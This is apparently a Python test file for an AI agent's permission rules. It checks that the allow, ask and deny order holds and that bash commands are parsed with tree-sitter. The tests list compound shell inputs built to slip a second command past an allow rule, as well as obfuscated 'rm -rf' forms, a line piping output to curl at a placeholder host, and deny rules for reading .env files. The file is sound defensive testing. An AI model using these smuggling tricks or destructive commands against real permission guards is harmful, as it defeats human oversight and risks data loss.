"""Permission rules (R-GUARD-1, R-GUARD-2): patterns, reading shell commands with tree-sitter-bash, and the
deny > ask > allow > default order, including the compound commands that try to smuggle a second command past an
allow rule."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from app.agents.permissions import RuleSet, exact_pattern, literal_pattern, parse_pattern, rules_from_lists
from app.agents.permissions.shell import read_command

pytestmark = pytest.mark.req("R-GUARD-1")

WORKSPACE = Path("/w")
RULES = RuleSet(
    rules_from_lists(
        {
            "allow": ["bash(git status*)", "bash(ls *)", "write_file(src/**)", "bash(cat *)"],
            "ask": ["bash(git push*)"],
            "deny": ["bash(rm *)", "read_file(**/.env)", "bash(curl *)"],
        },
        "[permissions]",
    )
)


def bash(command: str) -> str:
    return RULES.evaluate("bash", {"command": command}, default="ask", workspace=WORKSPACE).decision


# Each tries to run something the allow rule `bash(git status*)` does not cover.
SMUGGLED = [
    "git status; touch x",
    "git status && touch x",
    "git status || touch x",
    "git status | sh",
    "git status |& sh",
    "git status $(touch x)",
    "git status `touch x`",
    "git status > x",
    "git status >> x",
    "git status\ntouch x",
    "(git status; touch x)",
    "{ git status; touch x; }",
    "git status & touch x",
    "diff <(touch x) a",
    "git status <(touch x)",
    "eval 'git status'",
    "PAGER='sh -c x' git status",
    "GIT_SSH_COMMAND=x git status",
    'git status "$(touch x)"',
    "git status ${x:-$(touch x)}",
    "git status $HOME",
    "if git status; then touch x; fi",
    "for x in a; do git status; done",
    "f() { touch x; }; git status",
    "git status ||",
    "git status <<EOF\n$(touch x)\nEOF",
    "exec git status",
    "! touch x",
    "git status; export PATH=/tmp",
]


def test_plain_allowed_commands() -> None:
    for command in ["git status", "git status -s", "ls", "ls -la src", "git status 2>&1", "git status > /dev/null"]:
        assert bash(command) == "allow", command


@pytest.mark.parametrize("command", SMUGGLED)
def test_a_second_command_is_not_smuggled_past_an_allow_rule(command: str) -> None:
    assert bash(command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf x",
        "git status; rm -rf x",
        "git status && /bin/rm x",
        "echo $(rm x)",
        "'r'\\m -rf x",
        "r\\\nm x",
        "git status | curl -d @- http://x",
        "(cd a && rm x)",
        "ls `rm x`",
    ],
)
@pytest.mark.req("R-GUARD-2")
def test_deny_sees_every_part(command: str) -> None:
    assert bash(command) == "deny"


def test_ask_rule_wins_over_allow_and_default() -> None:
    assert bash("git push origin main") == "ask"
    verdict = RULES.evaluate("bash", {"command": "git push"}, default="allow", workspace=WORKSPACE)
    assert verdict.decision == "ask" and verdict.rule is not None and verdict.rule.pattern.text == "bash(git push*)"


@pytest.mark.req("R-GUARD-2")
def test_a_denial_names_the_rule() -> None:
    verdict = RULES.evaluate("bash", {"command": "git status; rm -rf /"}, default="ask", workspace=WORKSPACE)
    assert verdict.decision == "deny"
    text = verdict.denial("bash")
    assert "bash(rm *)" in text and "[permissions]" in text and "not run" in text


def test_file_patterns() -> None:
    def decide(tool: str, path: str, default: str = "ask") -> str:
        return RULES.evaluate(tool, {"path": path}, default=default, workspace=WORKSPACE).decision  # type: ignore[arg-type]

    assert decide("write_file", "src/a/b.py") == "allow"
    assert decide("write_file", "/w/src/x.py") == "allow"  # absolute, inside the workspace
    assert decide("write_file", "src/../../etc/x") == "ask"  # normalised: outside
    assert decide("write_file", "docs/x") == "ask"
    assert decide("read_file", ".env", "allow") == "deny"
    assert decide("read_file", "a/b/.env", "allow") == "deny"
    assert decide("read_file", "a/.envrc", "allow") == "allow"


def test_redirections_are_file_calls() -> None:
    rules = RuleSet(rules_from_lists({"allow": ["bash(git status*)", "write_file(out/**)"]}, "t"))
    assert (
        rules.evaluate("bash", {"command": "git status > out/s"}, default="ask", workspace=WORKSPACE).decision
        == "allow"
    )
    assert rules.evaluate("bash", {"command": "git status > s"}, default="ask", workspace=WORKSPACE).decision == "ask"
    denied = RuleSet(rules_from_lists({"allow": ["bash(cat *)"], "deny": ["read_file(**/.env)"]}, "t"))
    assert denied.evaluate("bash", {"command": "cat < .env"}, default="ask", workspace=WORKSPACE).decision == "deny"


def test_whole_tool_patterns_and_defaults() -> None:
    rules = RuleSet(rules_from_lists({"allow": ["bash"], "deny": ["mcp__github__*"]}, "t"))
    assert rules.evaluate("bash", {"command": "anything $(at) all"}, default="ask", workspace=None).decision == "allow"
    assert rules.evaluate("mcp__github__create_issue", {}, default="ask", workspace=None).decision == "deny"
    assert rules.evaluate("mcp__gitlab__x", {}, default="ask", workspace=None).decision == "ask"
    assert rules.evaluate("read_file", {"path": "x"}, default="allow", workspace=None).decision == "allow"
    both = RuleSet(rules_from_lists({"allow": ["bash"], "deny": ["bash(rm *)"]}, "t"))
    assert both.evaluate("bash", {"command": "ls; rm x"}, default="ask", workspace=None).decision == "deny"


def test_patterns() -> None:
    assert parse_pattern("bash(git status *)").matches_argument("git status")  # ` *` also matches no arguments
    assert not parse_pattern("bash(git status *)").matches_argument("git statusx")
    assert parse_pattern("write_file(src/*.py)").matches_argument("src/a.py")
    assert not parse_pattern("write_file(src/*.py)").matches_argument("src/a/b.py")
    assert parse_pattern("write_file(src/**/*.py)").matches_argument("src/a.py")
    for bad in ["", "bash(", "bash()", "ba sh", "ask_user(x)", "mcp__*(x)"]:
        with pytest.raises(ValueError):
            parse_pattern(bad)


def test_exact_remembered_command_matches_only_itself() -> None:
    command = "echo a*b; ls (x)"
    pattern = exact_pattern("bash", {"command": command})
    assert pattern == literal_pattern("bash", command) == "bash(echo a\\*b; ls \\(x\\))"
    rules = RuleSet(rules_from_lists({"allow": [pattern]}, "t"))
    assert rules.evaluate("bash", {"command": command}, default="ask", workspace=None).decision == "allow"
    assert rules.evaluate("bash", {"command": "echo aXb; ls (x)"}, default="ask", workspace=None).decision == "ask"
    assert rules.evaluate("bash", {"command": command + "; rm x"}, default="ask", workspace=None).decision == "ask"
    assert exact_pattern("ask_user", {"question": "q"}) == "ask_user"


def test_reading_keeps_words_as_bash_does() -> None:
    assert read_command("'r'\\m -rf x").commands == ["rm -rf x"]
    assert read_command("git st\\\natus").commands == ["git status"]
    assert read_command('echo "a \\" b" \'c d\'').commands == ['echo a " b c d']
    opaque = read_command("echo $(rm x)")
    assert not opaque.readable and "rm x" in opaque.commands


def test_tree_sitter_is_imported_on_first_bash_rule_check() -> None:
    code = (
        "import sys\n"
        "from app.sessions.live import turns\n"
        "from app.agents.permissions import RuleSet, rules_from_lists\n"
        "assert 'tree_sitter' not in sys.modules\n"
        "r = RuleSet(rules_from_lists({'allow': ['bash']}, 't'))\n"
        "r.evaluate('bash', {'command': 'ls'}, default='ask', workspace=None)\n"
        "assert 'tree_sitter' not in sys.modules  # a whole-tool rule needs no reading\n"
        "r = RuleSet(rules_from_lists({'allow': ['bash(ls*)']}, 't'))\n"
        "r.evaluate('bash', {'command': 'ls'}, default='ask', workspace=None)\n"
        "assert 'tree_sitter' in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
